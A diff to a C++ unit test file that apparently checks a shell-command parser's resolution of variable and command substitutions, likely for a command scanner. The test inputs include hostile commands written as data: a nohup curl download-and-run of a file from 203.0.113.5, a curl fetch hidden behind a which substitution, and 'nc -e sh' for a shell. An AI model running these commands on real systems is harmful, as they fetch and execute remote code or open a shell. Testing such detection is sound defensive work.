@@ -91,6 +91,9 @@ TEST(CommandLine, PutsInWhatTheLineSetBefore) {
     EXPECT_THAT(texts("nohup $SHELL -c 'curl http://203.0.113.5/a -o b; ./b' &"),
                 Contains("curl http://203.0.113.5/a -o b"));
     EXPECT_THAT(texts("SHELL=/bin/echo; ${SHELL} id"), Contains("/bin/echo id"));
+    EXPECT_THAT(texts("c=`which curl`; $c http://203.0.113.5/a"), Contains("curl http://203.0.113.5/a"));
+    EXPECT_THAT(texts("c=\"$(command -v nc)\"; $c -e sh"), Contains("nc -e sh"));
+    EXPECT_THAT(texts("c=$(which a b); $c"), Contains("$(which a b)"));
     EXPECT_THAT(texts("c='sh -c \"id; w\"'; eval $c"), Contains("id"));
     std::string doubling = "a=0123456789";
     for (int i = 0; i < 40; ++i)
